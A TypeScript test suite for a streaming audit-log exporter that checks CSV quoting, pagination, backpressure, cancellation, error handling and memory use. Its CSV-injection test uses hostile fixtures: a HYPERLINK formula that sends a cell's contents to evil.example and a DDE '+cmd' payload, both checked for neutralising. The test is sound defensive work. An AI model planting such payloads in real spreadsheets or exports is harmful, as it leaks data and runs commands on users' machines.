// Streaming export of the audit log on a real database (PGlite, or PostgreSQL with SV_SDK_TEST_DB=postgres): each
// format parsed back and compared with queryEntries, CSV quoting and formula neutralising, validation before any
// byte, backpressure (a page per read), cancel, a database error mid-stream, and the memory of a large export.
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isSDKError } from '../core/errors.ts';
import type { SDK } from '../core/sdk.ts';
import type { Database } from '../db/types.ts';
import { createTestSDK } from '../testing/index.ts';
import { pendingEntry } from './fixtures/entries.ts';
import { appendToChain } from './chain.ts';
import { exportEntries, EXPORT_CONTENT_TYPES, type AuditExportFormat, type AuditExportQuery } from './export.ts';
import { auditPlugin } from './plugin.ts';
import { queryEntries } from './query.ts';
import type { AuditEntry, AuditService } from './types.ts';

const COLUMNS = [
  'id',
  'chain',
  'seq',
  'occurredAt',
  'action',
  'outcome',
  'actorId',
  'actorIp',
  'userAgent',
  'requestId',
  'eventId',
  'targetType',
  'targetId',
  'metadata',
  'prevHash',
  'hash',
] as const;

const pending = pendingEntry;

async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: number }> {
  const decoder = new TextDecoder();
  let text = '';
  let chunks = 0;
  for await (const chunk of stream) {
    chunks += 1;
    text += decoder.decode(chunk, { stream: true });
  }
  return { text: text + decoder.decode(), chunks };
}

/** Every entry `queryEntries` gives for the filters, page after page. */
async function queried(db: Database, filters: AuditExportQuery): Promise<AuditEntry[]> {
  const all: AuditEntry[] = [];
  let cursor: string | undefined;
  do {
    const page = await queryEntries(db, { ...filters, limit: 500, ...(cursor ? { cursor } : {}) });
    all.push(...page.entries);
    cursor = page.nextCursor;
  } while (cursor);
  return all;
}

/** A small RFC 4180 parser: quoted fields with doubled quotes, CRLF records; strict about stray quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let index = 0;
  let quoted = false;
  while (index < text.length) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 2;
      } else if (char === '"') {
        quoted = false;
        index += 1;
        if (index < text.length && text[index] !== ',' && text[index] !== '\r')
          throw new Error(`a character after a closing quote at ${index}`);
      } else {
        field += char;
        index += 1;
      }
    } else if (char === '"') {
      if (field !== '') throw new Error(`a quote inside an unquoted field at ${index}`);
      quoted = true;
      index += 1;
    } else if (char === ',') {
      record.push(field);
      field = '';
      index += 1;
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else if (char === '\r' || char === '\n') {
      throw new Error(`a bare line break outside quotes at ${index}`);
    } else {
      field += char;
      index += 1;
    }
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (field !== '' || record.length) throw new Error('the last record does not end with CRLF');
  return records;
}

/** What the CSV should hold for a value: the spec, written out independently of export.ts. */
function expectedCell(value: unknown): string {
  const cell =
    value === null
      ? ''
      : value instanceof Date
        ? value.toISOString()
        : typeof value === 'object'
          ? JSON.stringify(value)
          : String(value);
  return /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
}

/** The entries as JSON gives them back (dates as ISO strings). */
const asJson = (entries: AuditEntry[]) => JSON.parse(JSON.stringify(entries)) as unknown[];

async function exported(db: Database, format: AuditExportFormat, query: AuditExportQuery, pageSize?: number) {
  return readAll(exportEntries(db, { format, query, ...(pageSize ? { pageSize } : {}) }));
}

function codeOf(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (isSDKError(error)) return `${error.code}:${error.status}`;
    throw error;
  }
  return 'OK';
}

/** A Drizzle query builder whose result arrives `delayMs` later (a slow database). */
function slowed<T extends object>(builder: T, delayMs: number): T {
  return new Proxy(builder, {
    get(target, key) {
      const value = Reflect.get(target, key, target) as unknown;
      if (typeof value !== 'function') return value;
      const method = value as (...args: unknown[]) => unknown;
      if (key === 'then')
        return (...args: unknown[]) =>
          new Promise((resolve) => setTimeout(resolve, delayMs)).then(() => method.apply(target, args));
      return (...args: unknown[]) => {
        const result = method.apply(target, args);
        return result && typeof result === 'object' ? slowed(result, delayMs) : result;
      };
    },
  });
}

/** The database, with the queries made through it counted (failing from a given one on, or slowed). */
function countingDb(db: Database) {
  const counter = { queries: 0, failFrom: Number.POSITIVE_INFINITY, delayMs: 0 };
  const count = () => {
    counter.queries += 1;
    if (counter.queries >= counter.failFrom) throw new Error('connection lost');
  };
  const wrapped = new Proxy(db, {
    get(target, key) {
      if (key === 'drizzle')
        return new Proxy(target.drizzle, {
          get(drizzle, name) {
            const value = Reflect.get(drizzle, name, drizzle) as unknown;
            if (typeof value !== 'function') return value;
            const method = value as (...args: unknown[]) => unknown;
            if (name !== 'select' && name !== 'execute') return method.bind(drizzle);
            return (...args: unknown[]) => {
              count();
              const builder = method.apply(drizzle, args) as object;
              return counter.delayMs ? slowed(builder, counter.delayMs) : builder;
            };
          },
        });
      const value = Reflect.get(target, key, target) as unknown;
      if (typeof value !== 'function') return value;
      const method = value as (...args: unknown[]) => unknown;
      if (key !== 'query') return method.bind(target);
      return (...args: unknown[]) => {
        count();
        return method.apply(target, args);
      };
    },
  });
  return { db: wrapped, counter };
}

const tick = (ms = 30) => new Promise((resolve) => setTimeout(resolve, ms));

describe('audit export', () => {
  let sdk: SDK;
  let db: Database;
  let audit: AuditService;

  beforeAll(async () => {
    sdk = await createTestSDK({ plugins: [auditPlugin({ events: false, flushIntervalMs: 20 })] });
    db = sdk.db;
    audit = sdk.service('audit');
    // 23 entries over two actors, three outcomes, two actions, many sharing a millisecond (ties broken by id).
    await audit.write(
      Array.from({ length: 23 }, (_, index) => ({
        action: index % 3 === 0 ? 'exp.viewed' : 'exp.downloaded',
        actorId: index % 2 ? 'alice' : 'bob',
        outcome: index % 5 === 0 ? ('failure' as const) : index % 7 === 0 ? ('denied' as const) : ('success' as const),
        target: { type: 'report', id: `r-${index % 4}` },
        occurredAt: new Date(Date.UTC(2026, 1, 1, 12, 0, index % 6)),
        metadata: { index, note: `row ${index}`, nested: { ok: index % 2 === 0, at: new Date(Date.UTC(2026, 0, 1)) } },
      })),
    );
  });
  afterAll(() => sdk?.close());

  const filterCases: [string, AuditExportQuery][] = [
    ['a prefix', { action: 'exp.*' }],
    ['an action and an actor', { action: 'exp.downloaded', actorId: 'alice' }],
    ['an outcome', { action: 'exp.*', outcome: 'failure' }],
    ['a target', { targetType: 'report', targetId: 'r-1' }],
    [
      'a time range',
      { action: 'exp.*', from: new Date(Date.UTC(2026, 1, 1, 12, 0, 1)), to: new Date(Date.UTC(2026, 1, 1, 12, 0, 4)) },
    ],
    ['a search of the metadata', { search: 'row 1' }],
    ['a search and an actor', { search: 'row', actorId: 'alice' }],
    ['nothing matching', { action: 'nothing.here' }],
  ];

  describe.each(filterCases)('with %s', (label, query) => {
    it('JSON Lines: one entry per line, as queryEntries gives them', async () => {
      const expected = await queried(db, query);
      if (label !== 'nothing matching') expect(expected.length).toBeGreaterThan(0);
      const { text } = await exported(db, 'jsonl', query, 4);
      const lines = text === '' ? [] : text.split('\n');
      if (lines.length) expect(lines.pop()).toBe('');
      expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(asJson(expected));
    });

    it('JSON: one array, as queryEntries gives it', async () => {
      const expected = await queried(db, query);
      const { text } = await exported(db, 'json', query, 4);
      expect(JSON.parse(text)).toEqual(asJson(expected));
    });

    it('CSV: a header row, then a record per entry', async () => {
      const expected = await queried(db, query);
      const { text } = await exported(db, 'csv', query, 4);
      const [header, ...records] = parseCsv(text);
      expect(header).toEqual([...COLUMNS]);
      expect(records).toEqual(expected.map((entry) => COLUMNS.map((column) => expectedCell(entry[column] as unknown))));
      // And back: the metadata cell is the entry's metadata, the date cell its ISO 8601 time.
      for (const [index, record] of records.entries()) {
        expect(JSON.parse(record[COLUMNS.indexOf('metadata')]!)).toEqual(
          JSON.parse(JSON.stringify(expected[index]!.metadata)),
        );
        expect(new Date(record[COLUMNS.indexOf('occurredAt')]!).getTime()).toBe(expected[index]!.occurredAt.getTime());
      }
    });
  });

  it('exports are the same whatever the page size, newest first with ties broken by id', async () => {
    const query = { action: 'exp.*' };
    const expected = await queried(db, query);
    expect(expected).toHaveLength(23);
    for (const pageSize of [1, 2, 7, 22, 23, 24, 500]) {
      const { text, chunks } = await exported(db, 'jsonl', query, pageSize);
      const ids = text
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as { id: number }).id);
      expect(ids, `pageSize ${pageSize}`).toEqual(expected.map((entry) => entry.id));
      // A chunk per page (the last page may be the one that finds nothing more only when it is empty).
      expect(chunks, `pageSize ${pageSize}`).toBe(Math.ceil(23 / pageSize));
    }
  });

  it('empty exports are well-formed in every format', async () => {
    const query = { action: 'nothing.here' };
    expect((await exported(db, 'csv', query)).text).toBe(`${COLUMNS.join(',')}\r\n`);
    expect((await exported(db, 'jsonl', query)).text).toBe('');
    expect(JSON.parse((await exported(db, 'json', query)).text)).toEqual([]);
  });

  it('CSV quotes commas, quotes and line breaks, and neutralises formulas', async () => {
    const tricky = {
      actorId: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      actorIp: '-2+3',
      userAgent: 'Mozilla, "quoted"\r\nsecond line',
      requestId: '+cmd|" /C calc"!A0',
      eventId: '@SUM(1,2)',
      targetType: '\tTAB',
      targetId: '\rCR',
      metadata: { formula: '=1+1', quote: 'a "b" c', newline: 'x\ny', unicode: 'é 😀 \u2028', comma: 'a,b' },
    };
    await appendToChain(db, 'tricky', [
      pending({ action: 'tricky.row', ...tricky }),
      pending({ action: 'tricky.row', actorId: 'plain', userAgent: "it's fine - not a formula", metadata: {} }),
    ]);
    const query = { action: 'tricky.row' };
    const expected = await queried(db, query);
    const { text } = await exported(db, 'csv', query);
    const records = parseCsv(text).slice(1);
    expect(records).toEqual(expected.map((entry) => COLUMNS.map((column) => expectedCell(entry[column] as unknown))));
    const row = (column: (typeof COLUMNS)[number]) => records[1]![COLUMNS.indexOf(column)]!;
    expect(row('actorId')).toBe(`'${tricky.actorId}`);
    expect(row('actorIp')).toBe("'-2+3");
    expect(row('requestId')).toBe(`'${tricky.requestId}`);
    expect(row('eventId')).toBe("'@SUM(1,2)");
    expect(row('targetType')).toBe("'\tTAB");
    expect(row('targetId')).toBe("'\rCR");
    expect(row('userAgent')).toBe(tricky.userAgent);
    expect(JSON.parse(row('metadata'))).toEqual(tricky.metadata);
    expect(records[0]![COLUMNS.indexOf('userAgent')]).toBe("it's fine - not a formula");
    // On the wire: quoted, quotes doubled, the apostrophe inside the quotes.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain(`"Mozilla, ""quoted""\r\nsecond line"`);
    expect(text).toContain(`"'\rCR"`);
    // JSON Lines keeps every entry on its line (line breaks escaped), values untouched.
    const jsonl = (await exported(db, 'jsonl', query)).text.split('\n');
    expect(jsonl).toHaveLength(3);
    expect(JSON.parse(jsonl[1]!)).toMatchObject({ actorId: tricky.actorId, userAgent: tricky.userAgent });
  });

  it('refuses an unknown format, a bad page size and bad filters at call time, before reading anything', async () => {
    const { db: counted, counter } = countingDb(db);
    const refusals: [string, unknown][] = [
      ['format xml', { format: 'xml' }],
      ['format toString', { format: 'toString' }],
      ['no format', {}],
      ['pageSize 0', { format: 'csv', pageSize: 0 }],
      ['pageSize 501', { format: 'csv', pageSize: 501 }],
      ['pageSize 1.5', { format: 'csv', pageSize: 1.5 }],
      ['a bad action', { format: 'csv', query: { action: 'DROP TABLE' } }],
      ['an empty actor', { format: 'json', query: { actorId: '' } }],
      ['an unknown outcome', { format: 'jsonl', query: { outcome: 'maybe' } }],
      ['from after to', { format: 'csv', query: { from: new Date(2), to: new Date(1) } }],
      ['from equal to to', { format: 'csv', query: { from: new Date(1), to: new Date(1) } }],
      ['a date as a string', { format: 'csv', query: { from: '2026-01-01' } }],
      ['an unknown filter', { format: 'csv', query: { colour: 'red' } }],
      ['a blank search', { format: 'csv', query: { search: '   ' } }],
      ['a long search', { format: 'csv', query: { search: 'x'.repeat(201) } }],
      ['a cursor', { format: 'csv', query: { cursor: 'abc' } }],
      ['a limit', { format: 'csv', query: { limit: 10 } }],
    ];
    for (const [label, options] of refusals)
      expect(
        codeOf(() => exportEntries(counted, options as never)),
        label,
      ).toBe('VALIDATION_FAILED:400');
    expect(counter.queries).toBe(0);
    // The filters are those of queryEntries: what one refuses, the other does.
    for (const [label, options] of refusals) {
      const query = (options as { query?: Record<string, unknown> }).query;
      if (!query || 'cursor' in query || 'limit' in query) continue;
      await expect(queryEntries(db, query), label).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
    }
  });

  it('reads a page only when the consumer asks for more (backpressure)', async () => {
    const { db: counted, counter } = countingDb(db);
    const stream = exportEntries(counted, { format: 'jsonl', query: { action: 'exp.*' }, pageSize: 5 });
    await tick();
    expect(counter.queries).toBe(0);
    const reader = stream.getReader();
    const first = await reader.read();
    expect(new TextDecoder().decode(first.value).trim().split('\n')).toHaveLength(5);
    await tick();
    expect(counter.queries).toBe(1);
    await reader.read();
    await tick();
    expect(counter.queries).toBe(2);
    // A consumer that goes away stops the reading.
    await reader.cancel();
    await tick();
    expect(counter.queries).toBe(2);
  });

  it('a cancel while a page is being read ends cleanly, and nothing more is read', async () => {
    const { db: counted, counter } = countingDb(db);
    counter.delayMs = 100;
    const reader = exportEntries(counted, { format: 'csv', query: { action: 'exp.*' }, pageSize: 2 }).getReader();
    const read = reader.read();
    // Once the page's query has started (the pull runs after the read, not within it), the consumer goes away.
    while (counter.queries === 0) await new Promise((resolve) => setImmediate(resolve));
    await reader.cancel('client gone');
    expect(await read).toEqual({ done: true, value: undefined });
    // The page arrives after the cancel: dropped, and no further page is read.
    await tick(250);
    expect(counter.queries).toBe(1);
    await expect(reader.closed).resolves.toBeUndefined();
  });

  it('a database error mid-stream errors the stream (the reader never hangs)', async () => {
    for (const format of ['csv', 'jsonl', 'json'] as const) {
      const { db: counted, counter } = countingDb(db);
      counter.failFrom = 2;
      const reader = exportEntries(counted, { format, query: { action: 'exp.*' }, pageSize: 5 }).getReader();
      expect((await reader.read()).done).toBe(false);
      await expect(reader.read()).rejects.toThrow('connection lost');
      await expect(reader.read()).rejects.toThrow('connection lost');
    }
    // Through a Response, the body read rejects too.
    const { db: counted, counter } = countingDb(db);
    counter.failFrom = 3;
    const response = new Response(exportEntries(counted, { format: 'json', query: { action: 'exp.*' }, pageSize: 5 }));
    await expect(response.text()).rejects.toThrow();
  });

  it('serves as a Response body, with the content type and extension of its format', async () => {
    expect(EXPORT_CONTENT_TYPES).toEqual({
      csv: { contentType: 'text/csv; charset=utf-8; header=present', extension: 'csv' },
      jsonl: { contentType: 'application/jsonl; charset=utf-8', extension: 'jsonl' },
      json: { contentType: 'application/json; charset=utf-8', extension: 'json' },
    });
    const response = new Response(exportEntries(db, { format: 'json', query: { action: 'exp.*' }, pageSize: 3 }), {
      headers: { 'content-type': EXPORT_CONTENT_TYPES.json.contentType },
    });
    expect(await response.json()).toEqual(asJson(await queried(db, { action: 'exp.*' })));
  });

  // AUDIT_EXPORT_ROWS=1000000 for the figure (1M rows under 100 MB).
  const rows = Number(process.env['AUDIT_EXPORT_ROWS'] ?? 100_000);
  it(
    `exports ${rows} entries in bounded memory (figure printed)`,
    { timeout: Math.max(300_000, rows * 3) },
    async () => {
      // Written directly (the export does not read hashes): a chain of its own, metadata of ~150 bytes.
      await db.query(sql`
      insert into audit.entries
        (chain, seq, occurred_at, action, outcome, actor_id, user_agent, target_type, target_id, metadata, prev_hash, hash)
      select 'bulk', g, timestamptz '2026-03-01' - g * interval '7 ms', 'bulk.row',
        case when g % 10 = 0 then 'failure' else 'success' end, 'actor-' || (g % 100),
        'Mozilla/5.0 (X11; Linux x86_64) "bulk", row ' || g, 'doc', 'doc-' || g,
        jsonb_build_object('i', g, 'note', 'a note, with "quotes" and a' || chr(10) || 'line break', 'tags', jsonb_build_array('x', 'y', g)),
        md5((g - 1)::text), md5(g::text)
      from generate_series(1, ${rows}) g`);
      // A collection before each export, for a baseline that is not the garbage of the insert; none during it (the
      // peaks are what a server would see, garbage not yet collected included); one after, for what is kept.
      setFlagsFromString('--expose-gc');
      const gc = runInNewContext('gc') as () => void;
      const mb = (value: number) => `${(value / 2 ** 20).toFixed(1)} MB`;
      for (const format of ['csv', 'jsonl', 'json'] as const) {
        gc();
        const before = process.memoryUsage();
        let peakRss = before.rss;
        let peakHeap = before.heapUsed;
        let bytes = 0;
        let chunks = 0;
        const started = performance.now();
        // A null sink: count the bytes, keep nothing.
        await exportEntries(db, { format, query: { action: 'bulk.row' } }).pipeTo(
          new WritableStream<Uint8Array>({
            write(chunk) {
              bytes += chunk.byteLength;
              chunks += 1;
              const now = process.memoryUsage();
              peakRss = Math.max(peakRss, now.rss);
              peakHeap = Math.max(peakHeap, now.heapUsed);
            },
          }),
        );
        const seconds = (performance.now() - started) / 1000;
        gc();
        const after = process.memoryUsage();
        console.log(
          `audit export ${format} (${db.driver}): ${rows} entries, ${mb(bytes)} in ${chunks} chunks, ` +
            `${seconds.toFixed(1)} s (${Math.round(rows / seconds)} entries/s); peak growth: RSS ${mb(peakRss - before.rss)}, ` +
            `heap ${mb(peakHeap - before.heapUsed)}; heap kept after a collection ${mb(after.heapUsed - before.heapUsed)} ` +
            `(RSS ${mb(before.rss)} before, ${mb(peakRss)} at the peak)`,
        );
        expect(chunks).toBe(Math.ceil(rows / 500));
      }
    },
  );
});
